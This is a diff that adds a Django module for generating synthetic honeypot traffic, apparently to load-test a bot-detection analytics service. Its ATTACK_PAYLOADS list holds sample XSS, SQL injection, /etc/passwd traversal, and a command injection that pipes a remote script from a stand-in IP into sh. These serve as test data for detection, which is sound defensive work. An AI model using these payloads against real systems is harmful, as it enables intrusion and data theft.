@@ -0,0 +1,267 @@
+"""
+Fast synthetic event generation (`generate_fake_bot_data --fast`).
+
+Events and attacks are built as plain model instances from a seeded RNG and
+written with one bulk insert per batch (COPY on PostgreSQL), bypassing the
+factories and their per-row saves. Distributions aim at what the analytics
+endpoints see in production:
+
+- IPs: Zipf-weighted pool, part of it packed into a few /24 "botnet" blocks,
+  so a handful of addresses and subnets dominate.
+- Paths: honeypot paths from FAKE_URLS with Zipf popularity.
+- Agents: a weighted mix of scanners, HTTP libraries and browsers.
+- Attacks: payloads whose detections are computed with ATTACK_PATTERNS
+  exactly as ingest would, one AttackType per matching pattern.
+
+A shard's output depends only on its seed, so the same seed and worker count
+reproduce the same dataset.
+"""
+
+import ipaddress
+import random
+import uuid
+from datetime import timedelta
+from itertools import accumulate
+
+from django.db import connection, transaction
+from django.utils import timezone
+
+from . import dimensions, geoip
+from .fake_urls import FAKE_URLS
+from .models import AttackType, BotEvent
+from .payloads import intern_values
+from .utils import extract_attacks
+
+AGENTS = [
+    ("Mozilla/5.0 zgrab/0.x", 12),
+    ("curl/8.4.0", 10),
+    ("python-requests/2.31.0", 14),
+    ("Go-http-client/1.1", 8),
+    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", 3),
+    ("sqlmap/1.7.2#stable (https://sqlmap.org)", 2),
+    (
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "HeadlessChrome/119.0.6045.105 Safari/537.36",
+        6,
+    ),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+        "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+        9,
+    ),
+    (
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:121.0) Gecko/20100101 Firefox/121.0",
+        4,
+    ),
+    (None, 3),
+]
+
+REFERERS = [(None, 70), ("https://www.google.com/", 15), ("http://localhost/", 10), ("-", 5)]
+LANGUAGES = [(None, 40), ("en-US", 35), ("en", 10), ("zh-CN", 8), ("ru", 7)]
+
+SPAM_MESSAGES = [
+    "Boost your SEO ranking today, guaranteed first page",
+    "Cheap backlinks, 10000 for $10",
+    "Hello, I am interested in your products, please send price list",
+    "Get rich with crypto trading bot",
+    "We build websites, reply for a free quote",
+]
+SPAM_NAMES = ["John", "Anna", "Mike", "Olga", "SEO Expert", "Admin"]
+
+ATTACK_PAYLOADS = [
+    "<script>alert('XSS')</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(document.cookie)>",
+    "javascript:alert(1)",
+    "' OR 1=1 --",
+    "1 UNION SELECT username, password FROM users",
+    "'; DROP TABLE users; --",
+    "../../../../etc/passwd",
+    "..%2f..%2f..%2fetc%2fpasswd",
+    "; cat /etc/passwd",
+    "$(curl http://203.0.113.66/x.sh | sh)",
+    "{{7*7}}",
+    "${7*7}",
+]
+ATTACK_FIELDS = ["message", "comment", "name", "username", "q", "search"]
+
+# Payloads that the pattern set actually detects, with their detections
+DETECTED_PAYLOADS = [
+    (payload, findings)
+    for payload in ATTACK_PAYLOADS
+    if (findings := extract_attacks(payload))
+]
+
+
+def _weighted(pairs):
+    values = [value for value, _ in pairs]
+    return values, list(accumulate(weight for _, weight in pairs))
+
+
+def _zipf(values, exponent=1.1):
+    return values, list(accumulate(1 / (rank**exponent) for rank in range(1, len(values) + 1)))
+
+
+class EventGenerator:
+    """Builds unsaved BotEvent / AttackType instances from one seeded RNG."""
+
+    def __init__(self, seed, total, attack_rate=0.3, days=30, now=None):
+        self.rng = random.Random(seed)
+        self.attack_rate = attack_rate
+        self.now = now or timezone.now()
+        self.span = days * 86400
+        self.paths = _zipf(["/" + url for url in FAKE_URLS])
+        self.agents = _weighted(AGENTS)
+        self.referers = _weighted(REFERERS)
+        self.languages = _weighted(LANGUAGES)
+        # Pool shared by every shard (seeded independently of the shard seed)
+        self.ips = _zipf(self._ip_pool(max(100, total // 50)))
+
+    @staticmethod
+    def _ip_pool(size):
+        rng = random.Random(size)
+        blocks = [rng.getrandbits(24) << 8 for _ in range(20)]
+        pool = set()
+        while len(pool) < size:
+            if rng.random() < 0.3:
+                address = rng.choice(blocks) | rng.getrandbits(8)  # botnet block
+            else:
+                address = rng.getrandbits(32)
+            pool.add(str(ipaddress.IPv4Address(address)))
+        ordered = sorted(pool)
+        rng.shuffle(ordered)
+        return ordered
+
+    def _pick(self, distribution):
+        values, cumulative = distribution
+        return self.rng.choices(values, cum_weights=cumulative)[0]
+
+    def _uuid(self):
+        return uuid.UUID(int=self.rng.getrandbits(128), version=4)
+
+    def event(self):
+        """(BotEvent, [AttackType], data_details)"""
+        rng = self.rng
+        created_at = self.now - timedelta(seconds=rng.random() * self.span)
+        event = BotEvent(
+            id=self._uuid(),
+            ip_address=self._pick(self.ips),
+            agent=self._pick(self.agents),
+            referer=self._pick(self.referers),
+            language=self._pick(self.languages),
+            request_path=self._pick(self.paths),
+            created_at=created_at,
+        )
+        attacks, data = [], None
+        roll = rng.random()
+        if roll < self.attack_rate:
+            event.method = BotEvent.MethodChoice.POST
+            payload, findings = rng.choice(DETECTED_PAYLOADS)
+            field = rng.choice(ATTACK_FIELDS)
+            data = {field: payload}
+            attacks = [
+                AttackType(
+                    id=self._uuid(),
+                    bot_event=event,
+                    target_field=field,
+                    pattern=pattern,
+                    category=category.value,
+                    raw_value=match,
+                    full_value="",
+                    created_at=created_at,
+                )
+                for pattern, category, match in findings
+            ]
+            event.attack_attempted = True
+        elif roll < self.attack_rate + (1 - self.attack_rate) * 0.4:
+            event.method = BotEvent.MethodChoice.GET
+        else:
+            event.method = BotEvent.MethodChoice.POST
+            name = rng.choice(SPAM_NAMES)
+            event.email = f"{name.split()[0].lower()}{rng.randrange(1000)}@example.com"
+            data = {
+                "name": name,
+                "email": event.email,
+                "message": rng.choice(SPAM_MESSAGES),
+            }
+        if data is not None:
+            event.data_present = True
+            event.field_count = len(data)
+            event.target_fields = list(data)
+        event.set_category(save=False)
+        return event, attacks, data
+
+
+def _rows(model, objects):
+    fields = model._meta.concrete_fields
+    for obj in objects:
+        yield [field.get_db_prep_save(getattr(obj, field.attname), connection) for field in fields]
+
+
+def insert(model, objects):
+    """
+    Insert `objects` with COPY FROM STDIN on PostgreSQL (psycopg 3), else one
+    executemany. Both skip bulk_create's per-row SQL compilation; values are
+    prepared by the model fields, as bulk_create would.
+    """
+    quote = connection.ops.quote_name
+    fields = model._meta.concrete_fields
+    table = quote(model._meta.db_table)
+    columns = ", ".join(quote(field.column) for field in fields)
+    with connection.cursor() as cursor:
+        if connection.vendor == "postgresql":
+            with cursor.cursor.copy(f"COPY {table} ({columns}) FROM STDIN") as copy:
+                for row in _rows(model, objects):
+                    copy.write_row(row)
+        else:
+            placeholders = ", ".join(["%s"] * len(fields))
+            cursor.executemany(
+                f"INSERT INTO {table} ({columns}) VALUES ({placeholders})",
+                list(_rows(model, objects)),
+            )
+
+
+def write_batch(rows):
+    """Intern payloads, fill derived keys and insert one batch of generated rows."""
+    events = [event for event, _, _ in rows]
+    attacks = [attack for _, event_attacks, _ in rows for attack in event_attacks]
+
+    with_data = [(event, data) for event, _, data in rows if data is not None]
+    digests = intern_values(data for _, data in with_data)
+    for (event, _), digest in zip(with_data, digests):
+        event.data_payload_id = digest
+    attack_digests = intern_values(
+        str(data[attack.target_field])
+        for _, event_attacks, data in rows
+        for attack in event_attacks
+    )
+    for attack, digest in zip(attacks, attack_digests):
+        attack.full_value_payload_id = digest
+
+    BotEvent.fill_derived_fields(events)
+    dimensions.clear_text(events)  # stored as keys only, like ingest
+    if geoip.available():
+        for event in events:
+            for name, value in geoip.enrichment_fields(event.ip_address).items():
+                setattr(event, name, value)
+
+    with transaction.atomic():
+        insert(BotEvent, events)
+        if attacks:
+            insert(AttackType, attacks)
+    return len(events), len(attacks)
+
+
+def generate(count, seed, total=None, attack_rate=0.3, days=30, batch_size=5000, now=None):
+    """
+    Generate and insert `count` events (one shard). `total` is the size of the
+    whole dataset, which sizes the shared IP pool. Returns (events, attacks).
+    """
+    generator = EventGenerator(seed, total or count, attack_rate, days, now)
+    events = attacks = 0
+    while events < count:
+        rows = [generator.event() for _ in range(min(batch_size, count - events))]
+        written, written_attacks = write_batch(rows)
+        events += written
+        attacks += written_attacks
+    return events, attacks